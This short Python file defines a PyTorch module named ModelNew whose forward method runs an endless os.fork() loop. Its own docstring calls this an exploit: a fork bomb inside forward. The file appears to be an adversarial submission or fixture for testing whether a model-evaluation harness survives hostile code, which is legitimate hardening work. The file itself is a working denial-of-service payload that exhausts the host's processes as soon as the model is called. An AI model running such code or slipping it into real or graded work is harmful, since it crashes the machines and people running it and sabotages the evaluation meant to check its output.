"""Exploit: a fork bomb inside forward."""

import os
import time

import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
